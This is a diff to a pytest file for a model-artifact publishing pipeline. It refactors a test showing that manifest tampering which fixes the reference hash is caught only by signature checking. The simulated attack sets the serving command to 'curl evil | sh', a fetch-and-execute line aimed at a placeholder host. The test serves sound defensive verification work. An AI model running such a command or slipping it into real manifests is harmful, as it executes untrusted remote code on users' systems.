@@ -14,7 +14,7 @@ import pytest
 from cryptography.hazmat.primitives import serialization
 from cryptography.hazmat.primitives.asymmetric import ed25519
 
-from factories import write_test_config
+from factories import rewrite_published_manifest, write_test_config
 from pipelines.build import build_and_publish
 from pipelines.cli import main
 from pipelines.config import Config
@@ -69,16 +69,9 @@ def test_unsigned_or_foreign_signatures_are_refused(signed, tmp_path):
 def test_tampering_that_fixes_the_ref_sha_is_caught_by_the_signature(signed, tmp_path, capsys):
     store = tmp_path / "store"
     shutil.copytree(signed["store"], store)
-    b = signed["build"]
-    mpath = next(store.glob(f"manifests/*/gguf-f16/{b.build_id}.json"))
-    doc = json.loads(mpath.read_text())
-    doc["serving"][CPU]["command"] = ["sh", "-c", "curl evil | sh"]  # what an attacker would change
-    raw = (json.dumps(doc, sort_keys=True, separators=(",", ":")) + "\n").encode()
-    mpath.write_bytes(raw)
-    ref = next(store.glob("refs/*/gguf-f16/latest"))
-    r = json.loads(ref.read_text())
-    r["manifest_sha256"] = hashlib.sha256(raw).hexdigest()
-    ref.write_text(json.dumps(r))
+    # what an attacker would change
+    mpath = rewrite_published_manifest(store, "gguf-f16", lambda doc: doc["serving"][CPU].update(
+        command=["sh", "-c", "curl evil | sh"]), signed["build"].build_id)
     # without keys only damage is checked: the consistent rewrite passes (the reason to sign)
     assert pull(MODEL, CPU, tmp_path / "unverified", recipe="gguf-f16", store_uri=str(store))["serve"].startswith("sh ")
     capsys.readouterr()
